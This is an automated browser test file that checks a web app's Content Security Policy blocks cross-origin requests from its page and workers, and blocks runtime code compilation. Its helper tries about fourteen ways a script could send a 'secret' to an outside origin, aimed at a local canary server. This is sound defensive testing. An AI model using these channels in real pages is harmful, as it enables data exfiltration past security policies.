import { listen } from '../../src/cli/house/static.mjs';
import { expect, open, test } from './support/test';

/** Every way out that a script has, tried from where it runs; each swallows its refusal. */
async function tryToLeave(origin: string): Promise<number> {
  const address = `${origin}/leak?secret=1`;
  const tries: (() => unknown)[] = [
    () => fetch(address, { mode: 'no-cors' }),
    () => {
      const request = new XMLHttpRequest();
      request.open('GET', address);
      request.send();
    },
    () => new WebSocket(address.replace('http', 'ws')),
    () => new EventSource(address),
    () => import(/* @vite-ignore */ address),
  ];
  if (typeof document !== 'undefined') {
    tries.push(
      () => navigator.sendBeacon(address, 'x'),
      () => Object.assign(new Image(), { src: address }),
      () => document.head.append(Object.assign(document.createElement('script'), { src: address })),
      () => document.head.append(Object.assign(document.createElement('link'), { rel: 'stylesheet', href: address })),
      () => document.head.append(Object.assign(document.createElement('link'), { rel: 'prefetch', href: address })),
      () => document.body.append(Object.assign(document.createElement('iframe'), { src: address })),
      () => new FontFace('leak', `url(${address})`).load(),
      () => new Worker(address),
      () => {
        const form = Object.assign(document.createElement('form'), { action: address, method: 'post', target: '_self' });
        document.body.append(form);
        form.submit();
      },
    );
  }
  for (const attempt of tries) {
    try {
      await Promise.resolve(attempt()).catch(() => undefined);
    } catch {
      /* refused at once */
    }
  }
  await new Promise((done) => setTimeout(done, 1500));
  return tries.length;
}

test.describe('with nothing to hold it back', () => {
  test.use({ provoked: true });

  test('the canary hears a page and a worker: the control', async ({ page, canary }) => {
    const open = await listen((request, response) => {
      const worker = request.url === '/worker.js';
      response
        .writeHead(200, { 'Content-Type': worker ? 'text/javascript' : 'text/html' })
        .end(worker ? '' : '<!doctype html><title>open</title>');
    }, 0);
    await page.goto(open.origin);
    const [worker] = await Promise.all([page.waitForEvent('worker'), page.evaluate(() => void new Worker('/worker.js'))]);
    await worker.evaluate(tryToLeave, canary.origin);
    const byWorker = canary.hits.length;
    expect(byWorker).toBeGreaterThanOrEqual(3);
    await page.evaluate(tryToLeave, canary.origin).catch(() => undefined);
    expect(canary.hits.length - byWorker).toBeGreaterThanOrEqual(6);
    await open.close();
  });
});

test.describe('under the product’s policy', () => {
  test.use({ provoked: true });

  test('neither the page nor any of its workers can reach another origin', async ({ page, origin, canary }) => {
    await open(page, origin);
    // The reader of files is gone when the engine has them; what stays is tried.
    await expect(page.getByText('Đang đối chiếu tệp')).toBeHidden({ timeout: 90_000 });
    const workers = page.workers();
    expect(workers.length, 'the engine runs in a worker').toBeGreaterThan(0);
    for (const worker of workers) expect(await worker.evaluate(tryToLeave, canary.origin)).toBeGreaterThan(3);
    expect(await page.evaluate(tryToLeave, canary.origin)).toBeGreaterThan(10);
    expect(canary.hits).toEqual([]);
    expect(page.url()).toContain(origin);
  });

  test('text is never compiled where a network can be reached', async ({ page, origin }) => {
    await open(page, origin);
    const compiles = async (): Promise<boolean> => {
      // The debugger that calls this is excused from the policy until the next task.
      await new Promise((done) => setTimeout(done));
      try {
        // oxlint-disable-next-line no-new-func, typescript/no-implied-eval -- the very thing that must fail
        return Boolean(new Function('return true')());
      } catch {
        return false;
      }
    };
    expect(await page.evaluate(compiles)).toBe(false);
    for (const worker of page.workers()) expect(await worker.evaluate(compiles)).toBe(worker.url().includes('analysis'));
  });
});

test('every script a worker starts from carries its own policy', async ({ page, origin }) => {
  await open(page, origin);
  for (const worker of page.workers()) {
    expect(worker.url(), 'a worker made from text has no response of its own').toMatch(/^http/);
    const reply = await page.request.get(worker.url());
    const policy = reply.headers()['content-security-policy'] ?? '';
    expect(policy).toContain("default-src 'none'");
    expect(policy).toMatch(worker.url().includes('analysis') ? /connect-src 'none'/ : /connect-src 'self'$/);
  }
});
